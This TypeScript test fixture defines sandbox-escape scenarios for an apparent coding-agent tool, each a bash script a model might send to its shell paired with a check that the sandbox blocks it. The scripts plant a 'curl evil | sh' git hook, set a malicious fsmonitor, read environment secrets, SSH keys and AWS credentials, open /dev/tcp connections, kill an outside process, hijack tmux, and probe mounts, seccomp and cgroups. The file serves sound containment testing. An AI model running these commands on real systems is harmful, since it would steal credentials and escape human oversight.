// Attacks on the sandbox, as data: the bash script a model would send to the shell tool, and
// the check of the outcome and of the host afterwards. test/sandbox-attacks.test.ts runs them
// through a sandboxed runner; a runtime test can replay the same scripts as a scripted model's
// tool calls and apply the same checks.
//
// Every script must stay harmless to the machine if the sandbox were broken (a regression, or a
// run without it): it only aims at the test's own files, listener and victim process — never
// `kill -1`, never a host-wide path. Failure messages never print the command's output where
// it could hold the host's environment.
import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, connect, type Server } from 'node:net';
import { dirname, join } from 'node:path';
import type { ProcessOutcome } from '../../src/sandbox/process-runner.ts';

export type AttackHost = {
  /** The workspace (a git repo with a .yoke dir), the only writable root besides tmpDir. */
  ws: string;
  tmpDir: string;
  /** A directory outside every writable root, visible (read-only) in the sandbox. */
  outside: string;
  /** A TCP listener on 127.0.0.1 and how many connections it accepted so far. */
  port: number;
  connections: () => number;
  /** Waits until the listener has accepted one more connection from the host itself. */
  hostRoundTrip: () => Promise<void>;
  /** A process outside the sandbox that the attacks try to kill. */
  victimPid: number;
  /** The value of secret variables set in the environment commands start from. */
  secret: string;
  hostEnv: Record<string, string | undefined>;
  /** The secret variables of hostEnv (each holding `secret`). */
  secretEnv: Record<string, string>;
  /**
   * A user's home outside /tmp (so that only the hidden-path rules keep it out of reach), with
   * credentials holding `secret`: ~/.ssh/id_ed25519, ~/.aws/credentials, ~/.netrc, a browser
   * cookie jar; and its Yoke home ~/.yoke with serve.token and yoke.db.
   */
  home: string;
  yokeHome: string;
};

/**
 * Credentials in the environment, as a developer's shell has them: the ones Yoke already
 * dropped by name, and the ones that went through when only *_KEY/*_TOKEN/*_SECRET did.
 */
function secretEnv(secret: string): Record<string, string> {
  return {
    YOKE_TEST_SECRET_TOKEN: secret,
    OPENAI_API_KEY: secret,
    PGPASSWORD: secret,
    MYSQL_PWD: secret,
    SSHPASS: secret,
    MONGODB_URI: `mongodb://app:${secret}@db.internal/prod`,
    SLACK_WEBHOOK_URL: `https://hooks.slack.com/services/T0/B0/${secret}`,
    GPG_PASSPHRASE: secret,
  };
}

/** The credential files of AttackHost.home, relative to it. */
export const SECRET_FILES = [
  '.ssh/id_ed25519',
  '.aws/credentials',
  '.netrc',
  '.config/google-chrome/Default/Cookies',
  '.yoke/serve.token',
  '.yoke/yoke.db',
];

export type Attack = {
  name: string;
  /** Set-up on the host before the script runs (servers the attack aims at). */
  prepare?: (host: AttackHost, t: TestHooks) => void | Promise<void>;
  script: (host: AttackHost) => string;
  check: (outcome: ProcessOutcome, host: AttackHost) => void | Promise<void>;
};

type TestHooks = { after: (fn: () => void | Promise<void>) => void };

/** The host tmux servers of the tmux attack: one socket outside /tmp, one in the workspace. */
const tmuxSockets = (h: AttackHost) => [
  join(h.outside, 'host-tmux.sock'),
  join(h.ws, 'ws-tmux.sock'),
];

/** Perl's number for a syscall on this machine (perl-base is on every Debian). */
const SECCOMP_NR = process.arch === 'arm64' ? 277 : 317;

const failedWith = (o: ProcessOutcome, reason: RegExp) => {
  assert.equal(o.spawnError, undefined, o.spawnError);
  assert.notEqual(o.exitCode, 0, `expected a failure, got exit 0: ${o.output}`);
  assert.match(o.output, reason);
};

const SCENARIOS: Attack[] = [
  {
    name: 'writing in the workspace and TMPDIR works (control)',
    script: () =>
      'echo ok > made.txt && echo tmp > "$TMPDIR/t" && cat made.txt "$TMPDIR/t" && echo "$TMPDIR"',
    check: (o, h) => {
      assert.equal(o.exitCode, 0, o.output);
      assert.equal(o.output, `ok\ntmp\n${h.tmpDir}\n`);
      assert.equal(readFileSync(join(h.ws, 'made.txt'), 'utf8'), 'ok\n');
    },
  },
  {
    name: 'writing outside the writable roots fails',
    script: (h) => `echo pwned > ${h.outside}/pwned.txt`,
    check: (o, h) => {
      failedWith(o, /Read-only file system/);
      assert.equal(existsSync(join(h.outside, 'pwned.txt')), false);
    },
  },
  {
    name: 'writing into HOME fails',
    script: () => 'echo pwned >> "$HOME/.yoke-sbx-probe"',
    check: (o, h) => {
      failedWith(o, /Read-only file system/);
      assert.equal(existsSync(join(h.hostEnv.HOME!, '.yoke-sbx-probe')), false);
    },
  },
  {
    name: 'writing .git/hooks in the workspace fails',
    script: () => 'echo "curl evil | sh" > .git/hooks/pre-commit',
    check: (o, h) => {
      failedWith(o, /Read-only file system/);
      assert.equal(existsSync(join(h.ws, '.git', 'hooks', 'pre-commit')), false);
    },
  },
  {
    name: 'writing .git/config and .yoke fails',
    script: () => 'git config core.fsmonitor "sh -c evil"; echo x > .yoke/config.toml',
    check: (o, h) => {
      failedWith(o, /Read-only file system|could not lock config file/);
      assert.doesNotMatch(readFileSync(join(h.ws, '.git', 'config'), 'utf8'), /fsmonitor/);
      assert.equal(existsSync(join(h.ws, '.yoke', 'config.toml')), false);
    },
  },
  {
    name: 'writing through a symlink in the workspace that points outside fails',
    script: (h) =>
      `echo x > escape/through-link.txt; ln -s ${h.outside} mylink && echo y > mylink/made-link.txt`,
    check: (o, h) => {
      failedWith(
        o,
        /escape\/through-link\.txt: Read-only file system[\s\S]*mylink\/made-link\.txt: Read-only file system/,
      );
      assert.deepEqual(readdirSync(h.outside), []);
    },
  },
  {
    name: 'host /tmp is hidden: writes land in a throwaway tmpfs',
    script: () =>
      'ls -A /tmp | grep -v "^yoke-" | wc -l; echo x > /tmp/yoke-attack-leak && echo written',
    check: (o) => {
      assert.equal(o.exitCode, 0, o.output);
      assert.match(o.output, /^0\nwritten\n$/);
      assert.equal(existsSync('/tmp/yoke-attack-leak'), false);
    },
  },
  {
    name: 'a TCP connection to a host listener on 127.0.0.1 fails with the network off',
    script: (h) => `exec 3<>/dev/tcp/127.0.0.1/${h.port} && echo connected`,
    check: async (o, h) => {
      failedWith(o, /Connection refused|Network is unreachable/);
      const before = h.connections();
      await h.hostRoundTrip();
      assert.equal(before, 0, 'the sandbox reached the listener');
    },
  },
  {
    name: 'signalling a process outside the sandbox fails',
    script: (h) =>
      `[ -e /proc/${h.victimPid} ] && echo visible || echo invisible; kill -9 ${h.victimPid}`,
    check: (o, h) => {
      failedWith(o, new RegExp(`^invisible\\n.*kill: \\(${h.victimPid}\\) - No such process`, 's'));
      assert.equal(alive(h.victimPid), true, 'the victim outside still runs');
    },
  },
  {
    name: 'secret environment variables are not visible',
    script: () => 'env; cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"',
    check: (o, h) => {
      assert.equal(o.exitCode, 0);
      assert.ok(/^PATH=/m.test(o.output), 'PATH is set');
      assert.ok(/^HOME=/m.test(o.output), 'HOME is set');
      // Deliberately no output in these messages: it could hold the host's environment.
      assert.ok(!o.output.includes(h.secret), 'a secret value is visible inside');
      for (const name of Object.keys(h.secretEnv))
        assert.ok(!new RegExp(`^${name}=`, 'm').test(o.output), `${name} is visible`);
    },
  },
  {
    name: 'credentials in HOME and the Yoke home are hidden (cat, grep -r, find)',
    script: (h) =>
      [
        ...SECRET_FILES.map((f) => `cat ${h.home}/${f}`),
        `grep -r . ${h.home} ${h.yokeHome}`,
        `find ${h.home} -type f`,
        `ls -A ${h.yokeHome} | wc -l`,
        'echo done',
      ].join('; '),
    check: (o, h) => {
      // The files are there and hold the secret: the sandbox, not their absence, hides them.
      for (const f of SECRET_FILES)
        assert.ok(readFileSync(join(h.home, f), 'utf8').includes(h.secret), f);
      assert.ok(!o.output.includes(h.secret), 'a secret file is readable inside');
      assert.match(o.output, /\.ssh\/id_ed25519: No such file or directory/);
      assert.match(o.output, /\n0\ndone\n$/, 'the Yoke home looks empty');
    },
  },
  {
    name: 'hidden files cannot be written or replaced either',
    script: (h) => `echo x > ${h.home}/.netrc; echo y > ${h.yokeHome}/serve.token; echo done`,
    check: (o, h) => {
      // stdout and stderr may arrive in either order
      assert.match(o.output, /^done$/m);
      assert.ok(readFileSync(join(h.home, '.netrc'), 'utf8').includes(h.secret));
      assert.ok(readFileSync(join(h.yokeHome, 'serve.token'), 'utf8').includes(h.secret));
    },
  },
  {
    name: "a host tmux server's socket (outside /tmp, and in the workspace) cannot be reached",
    prepare: (h, t) => {
      for (const sock of tmuxSockets(h)) {
        // The pane runs cat: even if a key got through, nothing would run on the host.
        execFileSync('tmux', [
          '-S',
          sock,
          '-f',
          '/dev/null',
          'new-session',
          '-d',
          '-s',
          'yoke',
          'cat',
        ]);
        // Stopped by its pid too: when the directory holding the socket is removed first, the
        // kill-server below cannot reach it and the server would outlive the test.
        const pid = Number(
          execFileSync('tmux', ['-S', sock, 'display-message', '-p', '#{pid}'], {
            encoding: 'utf8',
          }).trim(),
        );
        t.after(() => {
          spawnSync('tmux', ['-S', sock, 'kill-server'], { stdio: 'ignore' });
          try {
            process.kill(pid, 'SIGTERM');
          } catch {
            // already gone
          }
        });
      }
    },
    script: (h) =>
      tmuxSockets(h)
        .map(
          (sock) =>
            `tmux -S ${sock} send-keys -t yoke 'touch ${h.outside}/pwned' Enter; echo "rc=$?"`,
        )
        .join('; '),
    check: (o, h) => {
      for (const sock of tmuxSockets(h)) {
        // The servers are up and answer the host: only the sandbox is shut out.
        execFileSync('tmux', ['-S', sock, 'has-session', '-t', 'yoke']);
        assert.match(o.output, new RegExp(`error connecting to ${sock} \\(Permission denied\\)`));
      }
      assert.equal(o.output.match(/^rc=1$/gm)?.length, 2, 'both clients failed');
      assert.equal(existsSync(join(h.outside, 'pwned')), false);
    },
  },
  {
    name: 'with the network off: no socket families beyond local ones, no io_uring, no seccomp listener',
    script: () =>
      [
        `perl -e 'socket(my $s, 17, 3, 0) or print "packet: $!\\n"'`,
        `perl -e 'socket(my $s, 40, 1, 0) or print "vsock: $!\\n"'`,
        `perl -e '$p = "\\0" x 120; syscall(425, 4, $p) < 0 ? print "io_uring: $!\\n" : print "io_uring: open\\n"'`,
        `perl -e 'syscall(${SECCOMP_NR}, 1, 8, 0); print "listener: $!\\n"'`,
        `perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(Listen => 1, LocalAddr => "127.0.0.1:0") or die; IO::Socket::INET->new(PeerAddr => "127.0.0.1:" . $l->sockport) or die "$!"; print "loopback ok\\n"'`,
      ].join('; '),
    check: (o) => {
      assert.equal(
        o.output,
        'packet: Address family not supported by protocol\n' +
          'vsock: Address family not supported by protocol\n' +
          'io_uring: Function not implemented\n' +
          'listener: Operation not permitted\n' +
          'loopback ok\n',
      );
    },
  },
  {
    name: 'no privileges: no capabilities, no new privileges, no mounts',
    script: () =>
      'grep -E "^(CapEff|NoNewPrivs)" /proc/self/status; mkdir -p mnt && mount -t tmpfs none mnt',
    check: (o) => {
      assert.notEqual(o.exitCode, 0);
      assert.match(o.output, /CapEff:\s+0000000000000000/);
      assert.match(o.output, /NoNewPrivs:\s+1/);
      assert.match(
        o.output,
        /mount: .*(permission denied|must be superuser|Operation not permitted)/i,
      );
    },
  },
  {
    name: 'the process-limit cgroup cannot be left (read-only /sys)',
    script: () =>
      'for f in /sys/fs/cgroup/pids/cgroup.procs /sys/fs/cgroup/cgroup.procs; do [ -e $f ] && echo $$ > $f; done',
    check: (o) => failedWith(o, /Read-only file system/),
  },
];

/**
 * Every scenario with its stderr sent down stdout's pipe (`exec 2>&1`): the checks read the
 * output in the order the script wrote it, which two pipes do not keep.
 */
export const ATTACKS: Attack[] = SCENARIOS.map((attack) => ({
  ...attack,
  script: (host) => `exec 2>&1; ${attack.script(host)}`,
}));

/** A host for the attacks: workspace, outside dir, listener, victim process; torn down after. */
export async function setUpAttackHost(t: {
  after: (fn: () => void | Promise<void>) => void;
}): Promise<AttackHost> {
  const base = realpathSync(mkdtempSync('/tmp/yoke-attack-'));
  const ws = join(base, 'ws');
  const tmpDir = join(base, 'task-tmp');
  mkdirSync(ws);
  mkdirSync(tmpDir);
  execFileSync('git', ['init', '-q', ws]);
  mkdirSync(join(ws, '.yoke'));
  // /var/tmp, not /tmp: it must be visible inside the sandbox (where /tmp is a fresh tmpfs).
  const outside = realpathSync(mkdtempSync('/var/tmp/yoke-attack-outside-'));
  chmodSync(outside, 0o755);
  symlinkSync(outside, join(ws, 'escape'));
  const secret = `s3cret-${process.pid}-value`;
  const home = realpathSync(mkdtempSync('/var/tmp/yoke-attack-home-'));
  for (const file of SECRET_FILES) {
    mkdirSync(join(home, dirname(file)), { recursive: true });
    writeFileSync(join(home, file), `${file}=${secret}\n`);
  }
  t.after(() => {
    // Only there if the sandbox failed: leave the machine as it was.
    spawnSync('umount', [join(ws, 'mnt')], { stdio: 'ignore' });
    rmSync(join(process.env.HOME ?? '/nonexistent', '.yoke-sbx-probe'), { force: true });
    rmSync('/tmp/yoke-attack-leak', { force: true });
    rmSync(base, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
    rmSync(home, { recursive: true, force: true });
  });

  let connections = 0;
  let waiter: (() => void) | null = null;
  const server: Server = createServer((socket) => {
    connections++;
    socket.destroy();
    waiter?.();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as { port: number }).port;
  t.after(() => new Promise<void>((resolve) => server.close(() => resolve())));

  const victim = spawn('sleep', ['1000'], { stdio: 'ignore' });
  t.after(() => {
    victim.kill('SIGKILL');
  });
  return {
    ws,
    tmpDir,
    outside,
    port,
    connections: () => connections,
    hostRoundTrip: () =>
      new Promise<void>((resolve) => {
        const target = connections + 1;
        waiter = () => {
          if (connections >= target) {
            waiter = null;
            resolve();
          }
        };
        connect(port, '127.0.0.1').on('error', () => {});
      }),
    victimPid: victim.pid!,
    secret,
    hostEnv: { ...process.env, ...secretEnv(secret) },
    secretEnv: secretEnv(secret),
    home,
    yokeHome: join(home, '.yoke'),
  };
}

/** True while `pid` runs; a zombie counts as gone. */
export function alive(pid: number): boolean {
  try {
    return !/State:\s+Z/.test(readFileSync(`/proc/${pid}/status`, 'utf8'));
  } catch {
    return false;
  }
}

/** Host pids whose command line contains `marker`. */
export function processesWith(marker: string): number[] {
  const out: number[] = [];
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      if (readFileSync(`/proc/${entry}/cmdline`, 'utf8').includes(marker) && alive(Number(entry)))
        out.push(Number(entry));
    } catch {
      // Gone while we looked.
    }
  }
  return out;
}

/**
 * This process's descendants, however deep (processes that left it are counted by their
 * parent chain as it is now). Other suites on the machine do not move this count.
 */
export function descendantsOf(root: number): number[] {
  const parent = new Map<number, number>();
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const stat = readFileSync(`/proc/${entry}/stat`, 'utf8');
      parent.set(Number(entry), Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]));
    } catch {
      // Gone while we looked.
    }
  }
  const isDescendant = (pid: number): boolean => {
    for (let p = parent.get(pid), hops = 0; p !== undefined && hops < 1000; hops++) {
      if (p === root) return true;
      p = parent.get(p);
    }
    return false;
  };
  return [...parent.keys()].filter(isDescendant);
}

/** Waits (bounded) until no process carries `marker`; there is no event for "all killed". */
export async function noneLeft(marker: string, attempts = 300): Promise<number[]> {
  let left = processesWith(marker);
  for (let i = 0; i < attempts && left.length > 0; i++) {
    await new Promise((resolve) => setTimeout(resolve, 10));
    left = processesWith(marker);
  }
  return left;
}
